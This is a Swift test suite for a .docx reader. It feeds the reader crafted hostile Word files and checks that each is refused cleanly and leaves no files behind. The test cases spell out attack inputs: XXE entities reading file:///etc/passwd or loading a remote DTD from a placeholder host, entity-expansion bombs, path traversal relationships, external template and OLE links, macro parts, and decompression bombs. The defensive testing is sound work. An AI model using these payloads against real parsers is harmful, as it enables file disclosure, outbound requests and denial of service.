import ApprovedLibrary
import Findings
import Foundation
import Production
import TakingOver
import TestScale
import Testing

@testable import Word

/// Files that are made to do harm: a clear word, nothing fetched, nothing left.
@Suite struct `A hostile file` {
    static let text = "<w:p><w:r><w:t>Text</w:t></w:r></w:p>"
    static let types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>"
    static let relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    static func relations(_ content: String) -> String { "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\(content)</Relationships>" }

    static func document(_ body: String) -> String { "<w:document \(Namespace.all)><w:body>\(body)</w:body></w:document>" }

    /// A small file, sound but for the parts that are given.
    static func file(_ changed: [String: String?], body: String = text) throws -> [UInt8] {
        var parts: [String: String] = [
            "[Content_Types].xml": types, "_rels/.rels": relations("<Relationship Id=\"r1\" Type=\"\(relation)/officeDocument\" Target=\"word/document.xml\"/>"),
            "word/document.xml": document(body),
        ]
        for (name, text) in changed { parts[name] = text }
        var package = OfficePackage()
        for (name, text) in parts.sorted(by: { $0.key < $1.key }) { package.add(name, Array(text.utf8)) }
        return try package.archive()
    }

    static func rule(_ bytes: [UInt8]) -> String {
        do {
            _ = try ReadDocument(bytes, path: "fremd.docx")
            return "gelesen"
        } catch let finding { return finding.remedy == nil ? "ohne Abhilfe" : finding.rule }
    }

    struct Case: CustomTestStringConvertible {
        var name: String
        var rule: String
        var parts: [String: String?] = [:]
        var body = text
        var testDescription: String { name }
    }

    static let cases: [Case] = {
        func external(_ type: String) -> String { relations("<Relationship Id=\"r1\" Type=\"\(relation)/\(type)\" Target=\"http://angriff.invalid/x\" TargetMode=\"External\"/>") }
        func entity(_ declaration: String) -> String { "<!DOCTYPE w:document [\(declaration)]>" + document("<w:p><w:r><w:t>&a;</w:t></w:r></w:p>") }
        func inner(_ target: String) -> String { relations("<Relationship Id=\"r1\" Type=\"\(relation)/styles\" Target=\"\(target)\"/>") }
        var cases = [Case(name: "heil", rule: "gelesen")]
        cases += ["attachedTemplate", "image", "frame", "oleObject", "subDocument", "aFChunk", "settings", "footnotes", "video"].map {
            Case(
                name: "von außen: \($0)", rule: ["oleObject", "subDocument", "aFChunk"].contains($0) ? "word-aktiv" : "word-extern",
                parts: ["word/_rels/document.xml.rels": external($0)])
        }
        cases += ["word/_rels/settings.xml.rels", "word/_rels/footnotes.xml.rels", "word/_rels/header1.xml.rels"].map {
            Case(name: "von außen in \($0)", rule: "word-extern", parts: [$0: external("attachedTemplate")])
        }
        cases.append(Case(name: "ein Link darf nach außen", rule: "gelesen", parts: ["word/_rels/document.xml.rels": external("hyperlink")]))
        cases += [
            "<!ENTITY a \"b\">", "<!ENTITY a SYSTEM \"file:///etc/passwd\">", "<!ENTITY a SYSTEM \"http://angriff.invalid/\">",
            "<!ENTITY % p SYSTEM \"http://angriff.invalid/\">%p;",
            "<!ENTITY a0 \"aaaaaaaaaa\"><!ENTITY a1 \"&a0;&a0;&a0;&a0;\"><!ENTITY a \"&a1;&a1;&a1;\">",
        ].map { Case(name: "Entität \($0.prefix(24))", rule: "word-beschaedigt", parts: ["word/document.xml": entity($0)]) }
        cases += ["word/vbaProject.bin", "word/vbaData.xml", "word/activeX/activeX1.xml", "word/embeddings/oleObject1.bin", "word/embeddings/tabelle.xlsx", "word/afchunk.mht"].map
        {
            Case(name: "Teil \($0)", rule: "word-aktiv", parts: [$0: "x"])
        }
        cases.append(
            Case(
                name: "Inhaltstyp mit Makros", rule: "word-aktiv",
                parts: ["[Content_Types].xml": types.replacing("application/xml", with: "application/vnd.ms-word.document.macroEnabled.main+xml")]))
        cases += [("nirgends.xml", "word-beschaedigt"), ("../../../etc/passwd", "word-beschaedigt"), ("/nirgends/x.xml", "word-beschaedigt"), ("..", "word-beschaedigt")].map {
            Case(name: "Verweis auf \($0.0)", rule: $0.1, parts: ["word/_rels/document.xml.rels": inner($0.0)])
        }
        cases += [
            Case(
                name: "zwei Verweise eines Namens", rule: "word-beschaedigt",
                parts: ["_rels/.rels": relations(String(repeating: "<Relationship Id=\"r1\" Type=\"\(relation)/officeDocument\" Target=\"word/document.xml\"/>", count: 2))]),
            Case(name: "ohne Verweise", rule: "word-beschaedigt", parts: ["_rels/.rels": String?.none]),
            Case(name: "ohne Text", rule: "word-beschaedigt", parts: ["word/document.xml": String?.none]),
            Case(name: "ohne Inhaltstypen", rule: "word-beschaedigt", parts: ["[Content_Types].xml": String?.none]),
            Case(name: "eine Tabelle statt eines Textes", rule: "word-beschaedigt", parts: ["word/document.xml": "<workbook/>"]),
            Case(name: "kein XML", rule: "word-beschaedigt", parts: ["word/document.xml": "<w:document"]),
            Case(name: "doppelter Teil", rule: "word-beschaedigt", parts: ["WORD/Document.xml": document(text)]),
            Case(name: "OpenDocument", rule: "word-fremd", parts: ["_rels/.rels": String?.none, "mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"]),
            Case(
                name: "10.000 Tabellen ineinander", rule: "word-beschaedigt",
                body: String(repeating: "<w:tbl><w:tr><w:tc>", count: 10_000) + text + String(repeating: "</w:tc></w:tr></w:tbl>", count: 10_000)),
            Case(
                name: "10.000 Steuerelemente ineinander", rule: "word-beschaedigt",
                body: String(repeating: "<w:sdt><w:sdtContent>", count: 10_000) + text + String(repeating: "</w:sdtContent></w:sdt>", count: 10_000)),
            Case(name: "Textbombe", rule: "zip-bombe", parts: ["word/document.xml": document("<w:p><w:r><w:t>\(String(repeating: "a", count: 12_000_000))</w:t></w:r></w:p>")]),
            Case(
                name: "Formatbombe", rule: "zip-bombe",
                parts: [
                    "word/styles.xml": String(repeating: " ", count: 12_000_000) + "<w:styles/>", "word/_rels/document.xml.rels": inner("styles.xml"),
                ]),
        ]
        return cases
    }()

    @Test(arguments: cases) func `is refused by a clear word`(_ one: Case) throws {
        #expect(try Self.rule(Self.file(one.parts, body: one.body)) == one.rule)
    }

    /// Every fourth of them, all in the full run.
    @Test(arguments: cases.enumerated().filter { $0.offset % 4 == 0 || TestScale.isFull }.map(\.element))
    func `is not taken over, and nothing is left`(_ one: Case) throws {
        let folder = NSTemporaryDirectory() + "klauselwerk-feindlich-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let path = folder + "/alt.docx"
        try Data(Self.file(one.parts, body: one.body)).write(to: URL(filePath: path))
        let request = TakeOver.Request(files: [path], folder: folder + "/neu", library: try ApprovedLibrary.path(), land: "NW")
        var rule = "gelesen"
        do throws(Failure) {
            _ = try TakeOver.run(request)
        } catch { rule = error.findings.first?.rule ?? "" }
        #expect(rule == one.rule)
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder).sorted() == (rule == "gelesen" ? ["alt.docx", "neu"] : ["alt.docx"]))
    }

    @Test(
        arguments: [
            ([0xD0, 0xCF, 0x11, 0xE0, 0, 0], "word-fremd"), (Array("%PDF-1.7".utf8), "word-fremd"), (Array("{\\rtf1".utf8), "word-fremd"), ([], "word-fremd"),
            (Array("PK".utf8), "word-beschaedigt"), (Array("irgendwas".utf8), "word-fremd"),
        ] as [([UInt8], String)]) func `another kind of file is named`(_ bytes: [UInt8], _ rule: String)
    {
        #expect(Self.rule(bytes) == rule)
    }

    /// Damage at random: read, or refused; never an end of the program.
    @Test(arguments: 0..<TestScale.count(sample: 20, full: 110)) func `a damaged file ends in a word, not in a crash`(_ seed: Int) throws {
        var random = SplitMix(UInt64(seed) &+ 99)
        var bytes = try Self.file([:], body: String(repeating: Self.text, count: 20))
        if seed % 3 == 0 { bytes.removeLast(random.next(bytes.count)) }
        for _ in 0..<(1 + random.next(8)) where !bytes.isEmpty { bytes[random.next(bytes.count)] = UInt8(random.next(256)) }
        #expect(["gelesen", "word-beschaedigt", "word-fremd", "zip-bombe", "word-aktiv", "word-extern"].contains(Self.rule(bytes)))
    }

    @Test func `loops and absurd numbers of lists and styles end`() throws {
        let styles =
            "<w:styles \(Namespace.word)><w:style w:type=\"paragraph\" w:styleId=\"A\"><w:basedOn w:val=\"B\"/></w:style><w:style w:type=\"paragraph\" w:styleId=\"B\"><w:basedOn w:val=\"A\"/></w:style></w:styles>"
        let numbering =
            "<w:numbering \(Namespace.word)><w:abstractNum w:abstractNumId=\"0\"><w:lvl w:ilvl=\"0\"><w:start w:val=\"99999999999999999999\"/><w:numFmt w:val=\"lowerRoman\"/><w:lvlText w:val=\"%1%9%%\"/></w:lvl></w:abstractNum><w:num w:numId=\"1\"><w:abstractNumId w:val=\"0\"/><w:lvlOverride w:ilvl=\"0\"><w:startOverride w:val=\"2147483647\"/></w:lvlOverride></w:num></w:numbering>"
        let relations = Self.relations(["styles", "numbering"].map { "<Relationship Id=\"\($0)\" Type=\"\(Self.relation)/\($0)\" Target=\"\($0).xml\"/>" }.joined())
        let body = "<w:p><w:pPr><w:pStyle w:val=\"A\"/><w:numPr><w:ilvl w:val=\"0\"/><w:numId w:val=\"1\"/></w:numPr></w:pPr><w:r><w:t>Text</w:t></w:r></w:p>"
        let file = try Self.file(["word/styles.xml": styles, "word/numbering.xml": numbering, "word/_rels/document.xml.rels": relations], body: body)
        #expect(try ReadDocument(file, path: "x").paragraphs.map(\.label) == ["327671%%"])
    }
}
